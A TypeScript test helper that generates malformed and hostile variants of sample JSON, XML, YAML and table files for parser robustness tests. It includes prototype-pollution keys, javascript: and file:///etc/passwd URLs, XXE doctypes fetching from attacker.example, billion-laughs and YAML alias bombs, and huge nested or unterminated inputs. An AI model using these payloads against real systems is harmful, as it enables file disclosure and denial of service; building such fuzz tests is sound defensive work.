/*
 * Bad files made of honest ones, by kind of badness: what `tests/engine/bad-input-formats.test.ts` gives to every
 * format of the registry. All work on the text, so that they need to know of JSON, XML, tables, YAML, Turtle and
 * tag-value files only how each writes a value.
 */
import { hostileTexts, hugeName } from './hostile-texts.ts';

export interface Seed {
  readonly name: string;
  readonly text: string;
}

/** Pieces of one file; the same piece may stand in it many times, so that a long file takes no memory. */
export type BadFile = readonly Uint8Array[];

export interface Extent {
  /** Places of one file that are tried. */
  readonly places: number;
  /** MiB of the long line. */
  readonly long: number;
}

type Language = 'json' | 'xml' | 'yaml' | 'table' | 'lines';

export function languageOf({ name, text }: Seed): Language {
  const first = text.trimStart()[0];
  if (first === '<') return 'xml';
  if (/\.(?:csv|txt)$/.test(name)) return 'table';
  if (/\.ya?ml$/.test(name)) return 'yaml';
  return first === '{' || first === '[' ? 'json' : 'lines';
}

const written: Readonly<Record<Language, (value: string) => string>> = {
  json: (value) => JSON.stringify(value),
  yaml: (value) => JSON.stringify(value),
  table: (value) => `"${value.replaceAll('"', '""')}"`,
  xml: (value) => value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
  lines: (value) => value,
};

/** Where the values stand: not the names of members in JSON, texts and attributes in XML, words elsewhere. */
const values: Readonly<Record<Language, RegExp>> = {
  json: /"(?:[^"\\]|\\.)*"(?!\s*:)/g,
  xml: /(?<==")[^"<>]+(?=")|(?<=>)[^<>]*\S[^<>]*(?=<)/g,
  yaml: /(?<=:[ ]|- )\S.*$/gm,
  table: /[^\s,;"|][^,;"|\r\n]*/g,
  lines: /[^\s,;:"'<>|[\]{}]{2,}/g,
};
const memberNames = /"(?:[^"\\]|\\.)*"(?=\s*:)/g;
const numbers = /(?<![\w.-])-?\d+(?:\.\d+)?(?![\w.:-])/g;
const dates = /\d{4}-\d\d-\d\d(?:T[\d:.]+Z?)?/g;
const addresses = /https?:\/\/[^\s"'<>)]+/g;

const bytesOf = (text: string): Uint8Array => new Uint8Array(Buffer.from(text));

interface Place {
  readonly from: number;
  readonly to: number;
}

/** At most so many of the matches, spread over the file. */
function placesOf(text: string, pattern: RegExp, most: number): Place[] {
  const all = [...text.matchAll(pattern)].map((match) => ({ from: match.index, to: match.index + match[0].length }));
  const step = Math.max(1, all.length / most);
  const some: Place[] = [];
  for (let at = 0; at < all.length && some.length < most; at += step) some.push(all[Math.floor(at)] as Place);
  return some;
}

const replaced = (text: string, { from, to }: Place, by: string) => text.slice(0, from) + by + text.slice(to);

function* everywhere(text: string, pattern: RegExp, by: readonly string[], { places }: Extent): Generator<string> {
  for (const [index, place] of placesOf(text, pattern, places).entries()) yield replaced(text, place, by[index % by.length] as string);
  // And all at once, so that what is compared with each other is met too.
  for (const one of by) yield text.replaceAll(pattern, () => one);
}

export type Badness = keyof typeof badness;

/** Every kind of bad file; each gives some files for one honest file. */
export const badness = {
  'nothing but blanks': function* () {
    for (const text of ['', ' ', '\n', ' \r\n\t ', '\ufeff', '\0'.repeat(5000), '\ufffe', 'ÿþ', '-', '<', '{', '[', '"', '%', '---\n'])
      yield bytesOf(text);
  },
  'byte order marks and UTF-16': function* ({ text }: Seed) {
    const big = Buffer.from(`\ufeff${text}`, 'utf16le').swap16();
    yield bytesOf(`\ufeff${text}`);
    yield bytesOf(`\ufeff\ufeff${text}`);
    yield new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'));
    yield new Uint8Array(Buffer.from(text, 'utf16le'));
    yield new Uint8Array(big);
    yield new Uint8Array(big.subarray(0, big.length - 1));
    yield new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(text, 'utf16le')]));
    yield new Uint8Array(Buffer.from(text.replaceAll('e', 'é'), 'latin1'));
  },
  'NUL bytes': function* ({ text }: Seed, { places }: Extent) {
    for (let n = 0; n < places; n++) {
      const at = Math.floor((text.length * n) / places);
      yield bytesOf(`${text.slice(0, at)}\0${text.slice(at)}`);
      yield bytesOf(`${text.slice(0, at)}${'\0'.repeat(3000)}`);
    }
  },
  'cut at twenty points': function* ({ text }: Seed) {
    const bytes = bytesOf(text);
    for (let n = 1; n <= 20; n++) yield bytes.subarray(0, Math.floor((bytes.length * n) / 20.5));
  },
  'names of the language itself': function* (seed: Seed, extent: Extent) {
    const { text } = seed;
    const language = languageOf(seed);
    const hostile = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];
    if (language === 'json') {
      yield* map(everywhere(text, memberNames, hostile.map(written.json), extent));
      const planted = '{"__proto__":{"planted":1},"constructor":{"prototype":{"planted":1}},';
      for (const place of placesOf(text, /\{(?=\s*")/g, extent.places)) yield bytesOf(replaced(text, place, planted));
      yield bytesOf(text.replaceAll(/\{(?=\s*")/g, planted));
    } else if (language === 'xml') {
      yield* map(everywhere(text, /(?<=<)[A-Za-z][\w:.-]*/g, hostile, extent));
      yield* map(everywhere(text, /(?<=\s)[A-Za-z][\w:.-]*(?==")/g, hostile, extent));
    } else {
      yield* map(everywhere(text, /[A-Za-z_][\w-]*(?=:)|^[A-Za-z_][\w-]*/gm, hostile, extent));
      const [header = '', ...rest] = text.split('\n');
      for (const name of hostile) yield bytesOf([header.replaceAll(/[^,;\t\r"]+/g, name), ...rest].join('\n'));
    }
    yield* map(everywhere(text, values[language], hostile.map(written[language]), extent));
  },
  'everything twice': function* ({ text }: Seed) {
    yield bytesOf(text + text);
    yield bytesOf(`${text}\n${text}`);
    yield bytesOf(text.replaceAll(/[^\n]*\n/g, (line) => line + line));
    const tree = parsed(text);
    if (tree !== undefined) yield bytesOf(JSON.stringify(doubled(tree)));
    const seen = new Set<string>();
    for (const [, name = ''] of text.startsWith('<') ? text.matchAll(/<([A-Za-z][\w:.-]*)/g) : []) {
      if (seen.has(name)) continue;
      seen.add(name);
      const from = text.search(new RegExp(`<${name}[\\s>]`));
      const end = text.indexOf(`</${name}>`, from);
      if (from >= 0 && end > 0) yield bytesOf(text.slice(0, end + name.length + 3) + text.slice(from));
    }
  },
  'markup and odd signs in every text': function* (seed: Seed, extent: Extent) {
    const write = written[languageOf(seed)];
    yield* map(everywhere(seed.text, values[languageOf(seed)], Object.values(hostileTexts).map(write), extent));
    // As they are, without the care that a writer of the language takes.
    yield* map(everywhere(seed.text, values[languageOf(seed)], Object.values(hostileTexts), { ...extent, places: extent.places / 2 }));
  },
  'names of a megabyte': function* (seed: Seed, extent: Extent) {
    const language = languageOf(seed);
    for (const place of placesOf(seed.text, values[language], extent.places))
      yield bytesOf(replaced(seed.text, place, written[language](hugeName)));
    for (const place of placesOf(seed.text, memberNames, 3)) yield bytesOf(replaced(seed.text, place, JSON.stringify(hugeName)));
  },
  'dates out of range': function* ({ text }: Seed, extent: Extent) {
    const bad = [
      '0000-00-00',
      '2026-02-30T25:61:61Z',
      '+999999-01-01T00:00:00Z',
      '-000001-01-01T00:00:00Z',
      '9999-12-31T23:59:60Z',
      '99999999999999999999',
      '1e999',
      '',
      'yesterday',
      '2026-01-01T00:00:00+99:99',
    ];
    yield* map(everywhere(text, dates, bad, { ...extent, places: extent.places * 2 }));
  },
  'numbers out of range': function* ({ text }: Seed, extent: Extent) {
    const bad = [
      '1e999',
      '-1e999',
      'NaN',
      'Infinity',
      '-0',
      '1e308',
      '9007199254740993',
      '0x10',
      '1_000',
      '-1',
      '01',
      '.5',
      '9'.repeat(5000),
    ];
    yield* map(everywhere(text, numbers, bad, { ...extent, places: extent.places * 2 }));
  },
  'addresses that run': function* ({ text }: Seed, extent: Extent) {
    const bad = [
      'javascript:alert(1)',
      'JaVa\tScRiPt:alert(1)',
      'data:text/html,<script>',
      'file:///etc/passwd',
      'http://[',
      'https://a@b@c:99999/',
    ];
    yield* map(everywhere(text, addresses, bad, extent));
  },
  'nested without end': function* (seed: Seed, { places }: Extent) {
    const language = languageOf(seed);
    const times = 50_000;
    for (const [open, close] of [
      ['[', ']'],
      ['{"a":', '}'],
      ['<a>', '</a>'],
      ['(', ')'],
      ['- ', ''],
      ['- [{a: ', ''],
      ['? ', ''],
      ['_:b [ <p> ', ' ]'],
      ['"', '"'],
      ['&a [*a, ', ']'],
    ] as const) {
      const deep = open.repeat(times);
      yield bytesOf(deep);
      for (const place of placesOf(seed.text, values[language], Math.max(2, places / 4))) {
        yield bytesOf(replaced(seed.text, place, deep + close.repeat(times)));
        yield bytesOf(seed.text.slice(0, place.from) + deep);
      }
    }
    let indented = '';
    for (let depth = 0; depth < 2000; depth++) indented += `${' '.repeat(depth)}a:\n`;
    yield bytesOf(indented);
    yield bytesOf(`${seed.text}\n${indented}`);
  },
  'entities, document types and anchors': function* (seed: Seed, { places }: Extent) {
    const { text } = seed;
    const doctypes = [
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
      `<!DOCTYPE x [<!ENTITY e0 "lol">${Array.from({ length: 12 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('')}<!ENTITY e "&e12;">]>`,
      `<!DOCTYPE x [<!ENTITY e "${'lol'.repeat(100_000)}">]>`,
      '',
    ];
    const [head = ''] = /^\s*<\?xml[^>]*\?>/.exec(text) ?? [];
    for (const doctype of doctypes) {
      const [first] = placesOf(text, values[languageOf(seed)], 1);
      const used = first ? replaced(text, first, '&e;'.repeat(1000)) : text;
      yield bytesOf(`${head}${doctype}${used.slice(head.length)}`);
      yield bytesOf(`${doctype}${text}`);
    }
    let bomb = 'a: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n';
    for (let n = 1; n < 10; n++) bomb += `k${n}: &a${n} [${`*a${n - 1}, `.repeat(9)}]\n`;
    const merged = `base: &m {${Array.from({ length: 200 }, (_, n) => `k${n}: 1`).join(', ')}}\n${Array.from({ length: 2000 }, (_, n) => `m${n}: {<<: [*m, *m, *m]}\n`).join('')}`;
    for (const yaml of [
      bomb,
      merged,
      '&a [*a]\n',
      'a: &a\n  b: *a\n',
      'a: !!js/function "x"\n',
      'a: !!binary "////"\n',
      '%TAG ! tag:a,2026:\n---\n',
    ]) {
      yield bytesOf(yaml + text);
      yield bytesOf(`${text}\n${yaml}`);
      for (const place of placesOf(text, values[languageOf(seed)], Math.max(1, places / 6)))
        yield bytesOf(bomb + replaced(text, place, '*a9'));
    }
  },
  'one line without end': function* (seed: Seed, { long, places }: Extent) {
    const language = languageOf(seed);
    const MiB = 1024 * 1024;
    const run = (sign: string): Uint8Array[] => Array.from<Uint8Array>({ length: long }).fill(bytesOf(sign.repeat(MiB / sign.length)));
    for (const place of placesOf(seed.text, values[language], Math.max(1, Math.floor(places / 8)))) {
      const [before, after] = written[language]('\u0001').split(language === 'json' || language === 'yaml' ? '\\u0001' : '\u0001');
      yield [bytesOf(seed.text.slice(0, place.from) + before), ...run('x'), bytesOf(`${after}${seed.text.slice(place.to)}`)];
    }
    const [member] = placesOf(seed.text, memberNames, 1);
    if (member) yield [bytesOf(seed.text.slice(0, member.from + 1)), ...run('x'), bytesOf(`${seed.text.slice(member.to - 1)}`)];
    const middle = Math.floor(seed.text.length / 2);
    yield [bytesOf(seed.text.slice(0, middle)), ...run('x')];
    yield [bytesOf(seed.text), ...run(' '), bytesOf('x')];
    yield [bytesOf(seed.text), ...run('a,b;')];
    yield run('x');
  },
} satisfies Record<string, (seed: Seed, extent: Extent) => Iterable<Uint8Array | BadFile>>;

function* map(texts: Iterable<string>): Generator<Uint8Array> {
  for (const text of texts) yield bytesOf(text);
}

function parsed(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}

function doubled(value: unknown): unknown {
  if (Array.isArray(value)) return value.flatMap((item) => [doubled(item), doubled(item)]);
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, doubled(item)]));
}
